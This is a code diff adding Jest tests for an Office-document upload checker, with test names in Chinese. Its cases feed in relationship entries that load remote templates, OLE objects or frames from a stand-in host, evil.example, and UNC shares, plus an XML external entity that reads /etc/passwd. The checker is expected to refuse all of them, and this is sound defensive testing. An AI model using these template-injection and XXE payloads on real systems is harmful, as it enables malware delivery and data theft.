@@ -93,3 +93,67 @@ test.each<[string, () => Promise<Buffer>]>([
 ])('带宏的不收：%s', async (_, make) => {
   await expect(kindOf(await make())).rejects.toMatchObject({ code: 'file_macros_refused' })
 })
+
+/** The zip is whole, what is packed in this part is not. */
+async function damaged(parts: Record<string, string>, part: string): Promise<Buffer> {
+  const content = await zipped(parts)
+  // The name of the part stands before its bytes, and once more in the directory.
+  const at = content.indexOf(part) + Buffer.byteLength(part)
+  content.fill(0xff, at + 2, at + 20)
+  return content
+}
+
+test.each(['[Content_Types].xml', 'word/_rels/document.xml.rels'])('压缩的内容坏了的不收：%s', async (part) => {
+  const parts = {
+    '[Content_Types].xml': contentTypes(),
+    'word/document.xml': '<x/>',
+    'word/_rels/document.xml.rels': relation('image', 'a.png'.repeat(50)),
+  }
+  await expect(kindOf(await damaged(parts, part))).rejects.toMatchObject({ code: 'file_type_refused' })
+})
+
+const relation = (type: string, target: string, mode = 'External') =>
+  `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
+const withRelation = (relations: string, name = 'word/_rels/settings.xml.rels') =>
+  office(DOCX, '', { [name]: relations })
+
+test.each<[string, string, string?]>([
+  ['网上的模板', relation('attachedTemplate', 'https://evil.example/a.dotm')],
+  ['共享文件夹里的模板', relation('attachedTemplate', '\\\\evil\\share\\a.dotm')],
+  ['写成 file: 的共享文件夹', relation('attachedTemplate', 'file://evil/share/a.dotm')],
+  ['写成 file:/// 的共享文件夹', relation('attachedTemplate', 'file:///\\\\evil\\share\\a.dotm')],
+  [
+    '网上的对象',
+    relation('oleObject', 'mhtml:http://evil.example/a.html!x-usc:b'),
+    'word/_rels/document.xml.rels',
+  ],
+  ['网上的框架', relation('frame', 'http://evil.example/'), 'word/_rels/webSettings.xml.rels'],
+  ['换了大小写', relation('ATTACHEDTEMPLATE', 'HTTPS://evil.example/', 'external'), 'WORD/_rels/A.XML.RELS'],
+])('打开时会从别处加载东西的不收：%s', async (_, relations, name) => {
+  await expect(kindOf(await withRelation(relations, name))).rejects.toMatchObject({
+    code: 'file_macros_refused',
+  })
+})
+
+test.each<[string, string]>([
+  ['自己电脑里的模板', relation('attachedTemplate', 'file:///C:\\Users\\a\\Templates\\公文.dotx')],
+  ['同一文件夹的模板', relation('attachedTemplate', 'Normal.dotm')],
+  ['链接', relation('hyperlink', 'https://www.12371.cn/')],
+  ['网上的图片', relation('image', 'https://www.12371.cn/a.png')],
+  ['里面的对象', relation('oleObject', 'embeddings/oleObject1.bin', 'Internal')],
+])('平常的照收：%s', async (_, relations) => {
+  expect(await kindOf(await withRelation(relations))).toBe('docx')
+})
+
+test.each<[string, string | Buffer]>([
+  ['太大', Buffer.alloc(2 * 1024 * 1024, ' ')],
+  ['有实体', `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${relation('image', '&a;')}`],
+  ['不是 XML', '不是'],
+])('说明链接的部分读不了的不收：%s', async (_, relations) => {
+  const content = await zipped({
+    '[Content_Types].xml': contentTypes(),
+    'word/document.xml': '<x/>',
+    'word/_rels/document.xml.rels': relations,
+  })
+  await expect(kindOf(content)).rejects.toMatchObject({ code: 'file_type_refused' })
+})
